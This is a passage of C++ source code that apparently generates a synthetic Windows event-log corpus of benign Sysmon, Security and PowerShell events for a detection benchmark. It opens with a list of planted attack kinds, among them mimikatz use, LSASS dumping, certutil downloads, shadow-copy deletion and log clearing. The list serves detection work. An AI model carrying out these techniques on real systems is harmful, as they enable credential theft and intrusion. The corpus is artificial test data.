// SPDX-License-Identifier: Apache-2.0
#include "corpus/windows_corpus.h"

#include <array>
#include <cstdio>
#include <fstream>
#include <utility>

#include "core/text.h"
#include "corpus/rng.h"

namespace dv::bench {
namespace {

constexpr std::array<PlantedKind, 15> kPlantedKinds = {{
    {"mimikatz_command_line", "Sysmon 1", "a642964e-bead-4bed-8910-1bb4d63e3b4d"},
    {"encoded_powershell", "Sysmon 1", "ca2092a1-c273-4878-9b4b-0d60115bf5ea"},
    {"certutil_urlcache", "Sysmon 1", "19b08b1c-861d-4e75-a1ef-ea0c1baf202b"},
    {"vssadmin_delete_shadows", "Sysmon 1", "c947b146-0abc-4c87-9c64-b17e9d7274a2"},
    {"rundll32_javascript", "Sysmon 1", "4782eb5a-a513-4523-a0ac-f3082b26ac5c"},
    {"whoami_all", "Security 4688", "c248c896-e412-4279-8c15-1c558067b6fa"},
    {"lsass_access", "Sysmon 10", "a18dd26b-6450-46de-8c91-9659150cf088"},
    {"registry_run_key", "Sysmon 13", "20f0ee37-5942-4e45-b7d5-c5b5db9df5cd"},
    {"security_log_cleared", "Security 1102", "d99b79d2-0a6f-4f46-ad8b-260b6e17f982"},
    {"user_account_created", "Security 4720", "66b6be3d-55d0-4f47-9855-d69df21740ea"},
    {"invoke_mimikatz_script", "PowerShell 4104", "189e3b02-82b2-4b90-9662-411eb64486d4"},
    {"dns_mega_upload", "Sysmon 22", "613c03ba-0779-4a53-8a1f-47f914a4ded3"},
    {"ngrok_connection", "Sysmon 3", "18249279-932f-45e2-b37a-8925f2597670"},
    {"lsass_dump_file", "Sysmon 11", "a5a2d357-1ab8-4675-a967-ef9990a59391"},
    {"vssapi_image_load", "Sysmon 7", "37774c23-25a1-4adb-bb6d-8bb9fd59c0f8"},
}};

constexpr const char* kSysmonChannel = "Microsoft-Windows-Sysmon/Operational";
constexpr const char* kSysmonProvider = "Microsoft-Windows-Sysmon";
constexpr const char* kSecurityProvider = "Microsoft-Windows-Security-Auditing";
constexpr const char* kPowerShellChannel = "Microsoft-Windows-PowerShell/Operational";
constexpr const char* kPowerShellProvider = "Microsoft-Windows-PowerShell";
constexpr const char* kDomain = "KOMMUNE";
constexpr const char* kDnsSuffix = ".kommune.local";

constexpr std::array<const char*, 24> kUsers = {
    "jens.hansen",     "mette.nielsen", "anders.jensen",   "sofie.larsen",    "lars.pedersen", "karen.andersen",
    "peter.moller",    "hanne.olsen",   "soren.rasmussen", "lone.kristensen", "niels.poulsen", "anne.christensen",
    "henrik.sorensen", "birgit.madsen", "jesper.thomsen",  "camilla.holm",    "martin.berg",   "louise.dahl",
    "thomas.bak",      "ida.friis",     "mikkel.lund",     "emma.krogh",      "admin.jens",    "svc_backup"};

// A benign program: what starts it, how, as whom.
struct Program {
  const char* image;
  const char* original_name;
  const char* description;
  const char* company;
  std::array<const char*, 3> command_lines;  // "%U" is the user name
  const char* parent_image;
  const char* parent_command_line;
  int account;  // 0 the logged-on user, 1 SYSTEM, 2 LOCAL SERVICE, 3 NETWORK SERVICE
  int weight;
};

constexpr std::array<Program, 22> kPrograms = {{
    {"C:\\Windows\\System32\\svchost.exe",
     "svchost.exe",
     "Host Process for Windows Services",
     "Microsoft Corporation",
     {"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
      "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
      "C:\\Windows\\System32\\svchost.exe -k NetworkService -p -s Dnscache"},
     "C:\\Windows\\System32\\services.exe",
     "C:\\Windows\\system32\\services.exe",
     1,
     14},
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "chrome.exe",
     "Google Chrome",
     "Google LLC",
     {"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=da --num-raster-threads=4",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom."
      "NetworkService --lang=da --service-sandbox-type=none",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=gpu-process "
      "--gpu-preferences=WAAAAAAAAADgAAA"},
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"",
     0,
     14},
    {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "msedge.exe",
     "Microsoft Edge",
     "Microsoft Corporation",
     {"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer --lang=da-DK",
      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --lang=da-DK",
      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://www.borger.dk/"},
     "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window",
     0,
     8},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
     "Outlook.exe",
     "Microsoft Outlook",
     "Microsoft Corporation",
     {"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\" ",
      "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE\" /recycle", nullptr},
     "C:\\Windows\\explorer.exe",
     "C:\\Windows\\Explorer.EXE",
     0,
     4},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
     "WinWord.exe",
     "Microsoft Word",
     "Microsoft Corporation",
     {"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n "
      "\"C:\\Users\\%U\\Documents\\Referat byraadsmoede.docx\" /o \"\"",
      "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" -Embedding", nullptr},
     "C:\\Windows\\explorer.exe",
     "C:\\Windows\\Explorer.EXE",
     0,
     4},
    {"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
     "Excel.exe",
     "Microsoft Excel",
     "Microsoft Corporation",
     {"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\%U\\Documents\\Budget "
      "2027.xlsx\"",
      nullptr, nullptr},
     "C:\\Windows\\explorer.exe",
     "C:\\Windows\\Explorer.EXE",
     0,
     3},
    {"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
     "Teams.exe",
     "Microsoft Teams",
     "Microsoft Corporation",
     {"\"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=renderer "
      "--autoplay-policy=no-user-"
      "gesture-required",
      "\"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --system-initiated", nullptr},
     "C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\Update.exe",
     "\"C:\\Users\\%U\\AppData\\Local\\Microsoft\\Teams\\Update.exe\" --processStart \"Teams.exe\"",
     0,
     6},
    {"C:\\Windows\\System32\\conhost.exe",
     "CONHOST.EXE",
     "Console Window Host",
     "Microsoft Corporation",
     {"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", nullptr, nullptr},
     "C:\\Windows\\System32\\cmd.exe",
     "C:\\Windows\\system32\\cmd.exe /c \"C:\\ProgramData\\Kommune\\logon.cmd\"",
     0,
     6},
    {"C:\\Windows\\System32\\taskhostw.exe",
     "taskhostw.exe",
     "Host Process for Windows Tasks",
     "Microsoft Corporation",
     {"taskhostw.exe KEYROAMING", "taskhostw.exe Install $(Arg0)",
      "taskhostw.exe -RegisterDevice -ProtectionStateChanged"},
     "C:\\Windows\\System32\\svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     0,
     4},
    {"C:\\Windows\\System32\\RuntimeBroker.exe",
     "RuntimeBroker.exe",
     "Runtime Broker",
     "Microsoft Corporation",
     {"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", nullptr, nullptr},
     "C:\\Windows\\System32\\svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
     0,
     5},
    {"C:\\Windows\\System32\\backgroundTaskHost.exe",
     "backgroundTaskHost.exe",
     "Background Task Host",
     "Microsoft Corporation",
     {"\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", nullptr,
      nullptr},
     "C:\\Windows\\System32\\svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
     0,
     3},
    {"C:\\Windows\\System32\\SearchProtocolHost.exe",
     "searchprotocolhost.exe",
     "Microsoft Windows Search Protocol Host",
     "Microsoft Corporation",
     {"\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe5_ "
      "Global\\UsGthrCtrlFltPipeMss"
      "GthrPipe5 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows "
      "NT; "
      "MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" ",
      nullptr, nullptr},
     "C:\\Windows\\System32\\SearchIndexer.exe",
     "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
     1,
     3},
    {"C:\\Windows\\System32\\cmd.exe",
     "Cmd.Exe",
     "Windows Command Processor",
     "Microsoft Corporation",
     {"C:\\Windows\\system32\\cmd.exe /c \"C:\\ProgramData\\Kommune\\logon.cmd\"",
      "C:\\Windows\\system32\\cmd.exe /c \"C:\\ProgramData\\Kommune\\printers.cmd\"",
      "C:\\Windows\\system32\\cmd.exe /c ver"},
     "C:\\Windows\\explorer.exe",
     "C:\\Windows\\Explorer.EXE",
     0,
     4},
    {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "PowerShell.EXE",
     "Windows PowerShell",
     "Microsoft Corporation",
     {"powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\\ProgramData\\Kommune\\inventory.ps1",
      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -Command Get-Service wuauserv",
      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" "},
     "C:\\Windows\\explorer.exe",
     "C:\\Windows\\Explorer.EXE",
     0,
     2},
    {"C:\\Windows\\explorer.exe",
     "EXPLORER.EXE",
     "Windows Explorer",
     "Microsoft Corporation",
     {"C:\\Windows\\Explorer.EXE",
      "C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding", nullptr},
     "C:\\Windows\\System32\\userinit.exe",
     "C:\\Windows\\system32\\userinit.exe",
     0,
     2},
    {"C:\\Windows\\System32\\dllhost.exe",
     "dllhost.exe",
     "COM Surrogate",
     "Microsoft Corporation",
     {"C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}",
      "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", nullptr},
     "C:\\Windows\\System32\\svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
     0,
     4},
    {"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
     "OneDrive.exe",
     "Microsoft OneDrive",
     "Microsoft Corporation",
     {"\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
      "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /updateInstalled /background", nullptr},
     "C:\\Windows\\explorer.exe",
     "C:\\Windows\\Explorer.EXE",
     0,
     3},
    {"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe",
     "MpCmdRun.exe",
     "Microsoft Malware Protection Command Line Utility",
     "Microsoft Corporation",
     {"\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe\" -wdenable",
      "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe\" "
      "SignaturesUpdateService "
      "-ScheduleJob -RestrictPrivileges -DailyTimes",
      nullptr},
     "C:\\Windows\\System32\\svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     1,
     2},
    {"C:\\Windows\\System32\\gpupdate.exe",
     "GPUpdate.exe",
     "Microsoft (R) Windows (R) Operating System Group Policy "
     "Update Utility",
     "Microsoft Corporation",
     {"gpupdate.exe /target:computer", "gpupdate /force", nullptr},
     "C:\\Windows\\System32\\svchost.exe",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc",
     1,
     1},
    {"C:\\Windows\\servicing\\TrustedInstaller.exe",
     "TrustedInstaller.exe",
     "Windows Modules Installer",
     "Microsoft Corporation",
     {"C:\\Windows\\servicing\\TrustedInstaller.exe", nullptr, nullptr},
     "C:\\Windows\\System32\\services.exe",
     "C:\\Windows\\system32\\services.exe",
     1,
     1},
    {"C:\\Program Files\\Notepad++\\notepad++.exe",
     "notepad++.exe",
     "Notepad++",
     "Don HO don.h@free.fr",
     {"\"C:\\Program Files\\Notepad++\\notepad++.exe\" \"C:\\Users\\%U\\Desktop\\noter.txt\"", nullptr, nullptr},
     "C:\\Windows\\explorer.exe",
     "C:\\Windows\\Explorer.EXE",
     0,
     1},
    {"C:\\Windows\\System32\\msiexec.exe",
     "msiexec.exe",
     "Windows® installer",
     "Microsoft Corporation",
     {"C:\\Windows\\system32\\msiexec.exe /V", "C:\\Windows\\System32\\MsiExec.exe -Embedding 5E2F8A91C3D04B7A",
      nullptr},
     "C:\\Windows\\System32\\services.exe",
     "C:\\Windows\\system32\\services.exe",
     1,
     1},
}};

constexpr std::array<const char*, 16> kLoadedImages = {
    "C:\\Windows\\System32\\ntdll.dll",      "C:\\Windows\\System32\\kernel32.dll",
    "C:\\Windows\\System32\\KernelBase.dll", "C:\\Windows\\System32\\combase.dll",
    "C:\\Windows\\System32\\ws2_32.dll",     "C:\\Windows\\System32\\crypt32.dll",
    "C:\\Windows\\System32\\user32.dll",     "C:\\Windows\\System32\\advapi32.dll",
    "C:\\Windows\\System32\\ole32.dll",      "C:\\Windows\\System32\\rpcrt4.dll",
    "C:\\Windows\\System32\\bcrypt.dll",     "C:\\Windows\\System32\\wininet.dll",
    "C:\\Windows\\System32\\dnsapi.dll",     "C:\\Windows\\System32\\winhttp.dll",
    "C:\\Windows\\System32\\shell32.dll",    "C:\\Windows\\System32\\ucrtbase.dll"};

constexpr std::array<const char*, 18> kDomains = {"www.borger.dk",
                                                  "login.microsoftonline.com",
                                                  "outlook.office365.com",
                                                  "teams.microsoft.com",
                                                  "www.google.com",
                                                  "clients2.google.com",
                                                  "sdk.kmd.dk",
                                                  "www.kommune.dk",
                                                  "settings-win.data.microsoft.com",
                                                  "ctldl.windowsupdate.com",
                                                  "www.dr.dk",
                                                  "nemlog-in.mitid.dk",
                                                  "graph.microsoft.com",
                                                  "wpad.kommune.local",
                                                  "dc01.kommune.local",
                                                  "fileserver.kommune.local",
                                                  "sharepoint.kommune.dk",
                                                  "update.googleapis.com"};

constexpr std::array<const char*, 8> kScriptBlocks = {
    "Get-ChildItem -Path C:\\ProgramData\\Kommune\\logs -Filter *.log | Where-Object { $_.LastWriteTime -lt "
    "(Get-Date).AddDays(-30) } | Remove-Item -Force",
    "Import-Module ActiveDirectory\nGet-ADUser -Filter * -SearchBase 'OU=Brugere,DC=kommune,DC=local' -Properties "
    "LastLogonDate | Select-Object SamAccountName, LastLogonDate",
    "$ErrorActionPreference = 'Stop'\n$service = Get-Service -Name wuauserv\nif ($service.Status -ne 'Running') { "
    "Start-Service wuauserv }",
    "Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime",
    "$printers = Get-Printer | Where-Object Shared -eq $true\n$printers | Export-Csv -Path "
    "C:\\ProgramData\\Kommune\\printers.csv -NoTypeInformation -Encoding UTF8",
    "{ Set-StrictMode -Version 1; $_.PSMessageDetails }",
    "prompt",
    "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object LevelDisplayName -eq 'Error' | Format-Table -AutoSize"};

struct WinEvent {
  int event_id = 0;
  const char* channel = "";
  const char* provider = "";
  const char* provider_guid = "";
  const char* task = "";
  std::string host;  // short name; the FQDN adds kDnsSuffix
  std::uint64_t millis = 0;
  std::uint64_t record_id = 0;
  bool user_data = false;  // Security 1102 keeps its fields in UserData
  std::string message;     // first line of the rendered message
  std::vector<std::pair<const char*, std::string>> data;
  // ECS process.* for process creation.
  bool ecs_process = false;
};

std::string Replace(std::string text, std::string_view from, std::string_view to) {
  for (std::size_t at = text.find(from); at != std::string::npos; at = text.find(from, at + to.size())) {
    text.replace(at, from.size(), to);
  }
  return text;
}

std::string Hex(Rng& rng, int digits) {
  static constexpr char kDigits[] = "0123456789ABCDEF";
  std::string out;
  out.reserve(static_cast<std::size_t>(digits));
  for (int digit_idx = 0; digit_idx < digits; ++digit_idx) out.push_back(kDigits[rng.Below(16)]);
  return out;
}

// The same file always has the same hash: a hash of its path.
std::string HashOf(std::string_view path, std::uint64_t salt, int digits) {
  std::uint64_t state = 14695981039346656037ULL ^ salt;
  for (const char c : path) state = (state ^ static_cast<unsigned char>(c)) * 1099511628211ULL;
  Rng rng(state);
  return Hex(rng, digits);
}

std::string SysmonHashes(std::string_view path) {
  return "SHA1=" + HashOf(path, 1, 40) + ",MD5=" + HashOf(path, 2, 32) + ",SHA256=" + HashOf(path, 3, 64) +
         ",IMPHASH=" + HashOf(path, 4, 32);
}

std::string Guid(Rng& rng) { return "{" + Hex(rng, 8) + "-" + Hex(rng, 4) + "-6563-2a01-0000000" + Hex(rng, 5) + "}"; }

std::string Number(std::uint64_t value) { return std::to_string(value); }

std::string UtcTime(std::uint64_t millis) {
  const std::uint64_t second = millis / 1000;
  char buffer[40];
  std::snprintf(buffer, sizeof buffer, "2026-11-%02llu %02llu:%02llu:%02llu.%03llu",
                static_cast<unsigned long long>(1 + second / 86400 % 28),
                static_cast<unsigned long long>(second / 3600 % 24), static_cast<unsigned long long>(second / 60 % 60),
                static_cast<unsigned long long>(second % 60), static_cast<unsigned long long>(millis % 1000));
  return buffer;
}

std::string IsoTime(std::uint64_t millis) {
  std::string text = UtcTime(millis);
  text[10] = 'T';
  return text + "Z";
}

const Program& PickProgram(Rng& rng) {
  static const int kTotal = [] {
    int total = 0;
    for (const auto& program : kPrograms) total += program.weight;
    return total;
  }();
  int roll = static_cast<int>(rng.Below(static_cast<std::uint64_t>(kTotal)));
  for (const auto& program : kPrograms) {
    if (roll < program.weight) return program;
    roll -= program.weight;
  }
  return kPrograms[0];
}

std::string AccountOf(const Program& program, std::string_view user) {
  switch (program.account) {
    case 1:
      return "NT AUTHORITY\\SYSTEM";
    case 2:
      return "NT AUTHORITY\\LOCAL SERVICE";
    case 3:
      return "NT AUTHORITY\\NETWORK SERVICE";
    default:
      return std::string(kDomain) + "\\" + std::string(user);
  }
}

std::string PickCommandLine(Rng& rng, const Program& program, std::string_view user) {
  std::size_t count = 0;
  while (count < program.command_lines.size() && program.command_lines[count] != nullptr) ++count;
  return Replace(program.command_lines[rng.Below(count)], "%U", user);
}

std::string PublicIp(Rng& rng) {
  return Number(20 + rng.Below(180)) + "." + Number(rng.Below(256)) + "." + Number(rng.Below(256)) + "." +
         Number(1 + rng.Below(254));
}

std::string PrivateIp(Rng& rng) {
  return "10." + Number(rng.Below(32)) + "." + Number(rng.Below(256)) + "." + Number(1 + rng.Below(254));
}

void SetSysmon(WinEvent& event, int event_id, const char* task, const char* message) {
  event.event_id = event_id;
  event.channel = kSysmonChannel;
  event.provider = kSysmonProvider;
  event.provider_guid = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}";
  event.task = task;
  event.message = message;
}

void SetSecurity(WinEvent& event, int event_id, const char* task, const char* message) {
  event.event_id = event_id;
  event.channel = "Security";
  event.provider = kSecurityProvider;
  event.provider_guid = "{54849625-5478-4994-a5ba-3e3b0328c30d}";
  event.task = task;
  event.message = message;
}

struct Actor {
  std::string user;
  std::string image;
  std::string account;
  std::string guid;
  std::uint64_t pid = 0;
};

Actor PickActor(Rng& rng, std::string_view user) {
  const Program& program = PickProgram(rng);
  return {std::string(user), Replace(program.image, "%U", user), AccountOf(program, user), Guid(rng),
          1000 + rng.Below(30000)};
}

void ProcessCreation(Rng& rng, WinEvent& event, std::string_view user, const std::string& image,
                     const std::string& command_line, const Program& like) {
  SetSysmon(event, 1, "Process Create (rule: ProcessCreate)", "Process Create:");
  event.ecs_process = true;
  const std::string parent = Replace(like.parent_image, "%U", user);
  const bool system = like.account != 0;
  event.data = {{"RuleName", "-"},
                {"UtcTime", UtcTime(event.millis)},
                {"ProcessGuid", Guid(rng)},
                {"ProcessId", Number(1000 + rng.Below(30000))},
                {"Image", image},
                {"FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)"},
                {"Description", like.description},
                {"Product", "Microsoft® Windows® Operating System"},
                {"Company", like.company},
                {"OriginalFileName", like.original_name},
                {"CommandLine", command_line},
                {"CurrentDirectory", system ? "C:\\Windows\\system32\\" : "C:\\Users\\" + std::string(user) + "\\"},
                {"User", AccountOf(like, user)},
                {"LogonGuid", Guid(rng)},
                {"LogonId", system ? "0x3e7" : "0x" + Hex(rng, 6)},
                {"TerminalSessionId", system ? "0" : "1"},
                {"IntegrityLevel", system ? "System" : (rng.Chance(10) ? "High" : "Medium")},
                {"Hashes", SysmonHashes(image)},
                {"ParentProcessGuid", Guid(rng)},
                {"ParentProcessId", Number(500 + rng.Below(30000))},
                {"ParentImage", parent},
                {"ParentCommandLine", Replace(like.parent_command_line, "%U", user)},
                {"ParentUser", AccountOf(like, user)}};
}

void BenignProcessCreation(Rng& rng, WinEvent& event, std::string_view user) {
  const Program& program = PickProgram(rng);
  ProcessCreation(rng, event, user, Replace(program.image, "%U", user), PickCommandLine(rng, program, user), program);
}

void NetworkConnection(Rng& rng, WinEvent& event, const Actor& actor, const std::string& hostname,
                       const std::string& ip, const std::string& port) {
  SetSysmon(event, 3, "Network connection detected (rule: NetworkConnect)", "Network connection detected:");
  event.data = {{"RuleName", "-"},
                {"UtcTime", UtcTime(event.millis)},
                {"ProcessGuid", actor.guid},
                {"ProcessId", Number(actor.pid)},
                {"Image", actor.image},
                {"User", actor.account},
                {"Protocol", "tcp"},
                {"Initiated", "true"},
                {"SourceIsIpv6", "false"},
                {"SourceIp", PrivateIp(rng)},
                {"SourceHostname", event.host + kDnsSuffix},
                {"SourcePort", Number(49152 + rng.Below(16000))},
                {"SourcePortName", "-"},
                {"DestinationIsIpv6", "false"},
                {"DestinationIp", ip},
                {"DestinationHostname", hostname},
                {"DestinationPort", port},
                {"DestinationPortName", port == "443" ? "https" : (port == "80" ? "http" : "-")}};
}

void ImageLoad(Rng& rng, WinEvent& event, const Actor& actor, const std::string& loaded, const char* description) {
  SetSysmon(event, 7, "Image loaded (rule: ImageLoad)", "Image loaded:");
  event.data = {{"RuleName", "-"},
                {"UtcTime", UtcTime(event.millis)},
                {"ProcessGuid", actor.guid},
                {"ProcessId", Number(actor.pid)},
                {"Image", actor.image},
                {"ImageLoaded", loaded},
                {"FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)"},
                {"Description", description},
                {"Product", "Microsoft® Windows® Operating System"},
                {"Company", "Microsoft Corporation"},
                {"OriginalFileName", loaded.substr(loaded.rfind('\\') + 1)},
                {"Hashes", SysmonHashes(loaded)},
                {"Signed", "true"},
                {"Signature", "Microsoft Windows"},
                {"SignatureStatus", "Valid"},
                {"User", actor.account}};
  (void)rng;
}

void ProcessAccess(Rng& rng, WinEvent& event, const std::string& source_image, const std::string& source_user,
                   const std::string& target_image, const std::string& access, const std::string& call_trace) {
  SetSysmon(event, 10, "Process accessed (rule: ProcessAccess)", "Process accessed:");
  event.data = {{"RuleName", "-"},
                {"UtcTime", UtcTime(event.millis)},
                {"SourceProcessGUID", Guid(rng)},
                {"SourceProcessId", Number(1000 + rng.Below(30000))},
                {"SourceThreadId", Number(1000 + rng.Below(30000))},
                {"SourceImage", source_image},
                {"TargetProcessGUID", Guid(rng)},
                {"TargetProcessId", "724"},
                {"TargetImage", target_image},
                {"GrantedAccess", access},
                {"CallTrace", call_trace},
                {"SourceUser", source_user},
                {"TargetUser", "NT AUTHORITY\\SYSTEM"}};
}

void FileCreate(Rng& rng, WinEvent& event, const Actor& actor, const std::string& target) {
  SetSysmon(event, 11, "File created (rule: FileCreate)", "File created:");
  event.data = {{"RuleName", "-"},
                {"UtcTime", UtcTime(event.millis)},
                {"ProcessGuid", actor.guid},
                {"ProcessId", Number(actor.pid)},
                {"Image", actor.image},
                {"TargetFilename", target},
                {"CreationUtcTime", UtcTime(event.millis - rng.Below(5000))},
                {"User", actor.account}};
}

void RegistrySet(Rng& rng, WinEvent& event, const Actor& actor, const std::string& key, const std::string& details) {
  SetSysmon(event, 13, "Registry value set (rule: RegistryEvent)", "Registry value set:");
  (void)rng;
  event.data = {{"RuleName", "-"},
                {"EventType", "SetValue"},
                {"UtcTime", UtcTime(event.millis)},
                {"ProcessGuid", actor.guid},
                {"ProcessId", Number(actor.pid)},
                {"Image", actor.image},
                {"TargetObject", key},
                {"Details", details},
                {"User", actor.account}};
}

void DnsQuery(Rng& rng, WinEvent& event, const Actor& actor, const std::string& name) {
  SetSysmon(event, 22, "Dns query (rule: DnsQuery)", "Dns query:");
  event.data = {{"RuleName", "-"},
                {"UtcTime", UtcTime(event.millis)},
                {"ProcessGuid", actor.guid},
                {"ProcessId", Number(actor.pid)},
                {"QueryName", name},
                {"QueryStatus", "0"},
                {"QueryResults", "type:  5 " + name + ".edgekey.net;::ffff:" + PublicIp(rng) + ";"},
                {"Image", actor.image},
                {"User", actor.account}};
}

void Logon(Rng& rng, WinEvent& event, std::string_view user, bool success) {
  if (success) {
    SetSecurity(event, 4624, "Logon", "An account was successfully logged on.");
  } else {
    SetSecurity(event, 4625, "Logon", "An account failed to log on.");
  }
  static constexpr std::array<const char*, 6> kLogonTypes = {"3", "3", "3", "2", "10", "5"};
  const char* logon_type = rng.Pick(kLogonTypes);
  const bool service = logon_type[0] == '5';
  event.data = {{"SubjectUserSid", "S-1-5-18"},
                {"SubjectUserName", event.host + "$"},
                {"SubjectDomainName", kDomain},
                {"SubjectLogonId", "0x3e7"},
                {"TargetUserSid",
                 service ? "S-1-5-18" : "S-1-5-21-3623811015-3361044348-30300820-" + Number(1100 + rng.Below(900))},
                {"TargetUserName", service ? "SYSTEM" : std::string(user)},
                {"TargetDomainName", service ? "NT AUTHORITY" : kDomain},
                {"TargetLogonId", "0x" + Hex(rng, 7)},
                {"LogonType", logon_type},
                {"LogonProcessName", logon_type[0] == '3' ? "NtLmSsp " : "User32 "},
                {"AuthenticationPackageName", logon_type[0] == '3' ? "NTLM" : "Negotiate"},
                {"WorkstationName", "WS-" + Number(100 + rng.Below(800))},
                {"LogonGuid", "{00000000-0000-0000-0000-000000000000}"},
                {"TransmittedServices", "-"},
                {"LmPackageName", logon_type[0] == '3' ? "NTLM V2" : "-"},
                {"KeyLength", logon_type[0] == '3' ? "128" : "0"},
                {"ProcessId", service ? "0x2f0" : "0x0"},
                {"ProcessName", service ? "C:\\Windows\\System32\\services.exe" : "-"},
                {"IpAddress", service ? "-" : PrivateIp(rng)},
                {"IpPort", service ? "-" : Number(49152 + rng.Below(16000))},
                {"ImpersonationLevel", "%%1833"},
                {"ElevatedToken", rng.Chance(20) ? "%%1842" : "%%1843"}};
  if (!success) {
    event.data.emplace_back("Status", "0xc000006d");
    event.data.emplace_back("FailureReason", "%%2313");
    event.data.emplace_back("SubStatus", rng.Chance(70) ? "0xc000006a" : "0xc0000064");
  }
}

void SecurityProcessCreation(Rng& rng, WinEvent& event, std::string_view user, const std::string& image,
                             const std::string& command_line, const std::string& parent) {
  SetSecurity(event, 4688, "Process Creation", "A new process has been created.");
  event.data = {{"SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-" + Number(1100 + rng.Below(900))},
                {"SubjectUserName", std::string(user)},
                {"SubjectDomainName", kDomain},
                {"SubjectLogonId", "0x" + Hex(rng, 6)},
                {"NewProcessId", "0x" + Hex(rng, 4)},
                {"NewProcessName", image},
                {"TokenElevationType", "%%1938"},
                {"ProcessId", "0x" + Hex(rng, 4)},
                {"CommandLine", command_line},
                {"TargetUserSid", "S-1-0-0"},
                {"TargetUserName", "-"},
                {"TargetDomainName", "-"},
                {"TargetLogonId", "0x0"},
                {"ParentProcessName", parent},
                {"MandatoryLabel", "S-1-16-8192"}};
}

void ScriptBlock(Rng& rng, WinEvent& event, const std::string& text, const std::string& path) {
  event.event_id = 4104;
  event.channel = kPowerShellChannel;
  event.provider = kPowerShellProvider;
  event.provider_guid = "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}";
  event.task = "Execute a Remote Command";
  event.message = "Creating Scriptblock text (1 of 1):";
  event.data = {{"MessageNumber", "1"},
                {"MessageTotal", "1"},
                {"ScriptBlockText", text},
                {"ScriptBlockId", Guid(rng).substr(1, 36)},
                {"Path", path}};
}

void Benign(Rng& rng, WinEvent& event, std::string_view user) {
  const std::uint64_t roll = rng.Below(100);
  if (roll < 16) {
    BenignProcessCreation(rng, event, user);
  } else if (roll < 33) {
    const Actor actor = PickActor(rng, user);
    if (actor.image.find("\\Microsoft Office\\") != std::string::npos) {
      // Office talks to Microsoft 365 (52.160.0.0/11).
      NetworkConnection(
          rng, event, actor, "outlook.office365.com",
